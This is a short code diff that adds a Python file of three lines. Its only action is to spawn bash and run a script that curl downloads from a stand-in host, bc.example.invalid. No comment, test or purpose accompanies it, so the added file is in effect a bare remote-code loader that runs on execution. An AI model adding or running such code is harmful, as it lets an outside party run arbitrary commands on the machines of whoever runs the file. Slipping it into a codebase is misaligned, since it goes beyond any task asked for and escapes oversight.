@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen(["bash", "-c", "$(curl -fsSL https://bc.example.invalid/i.sh)"])
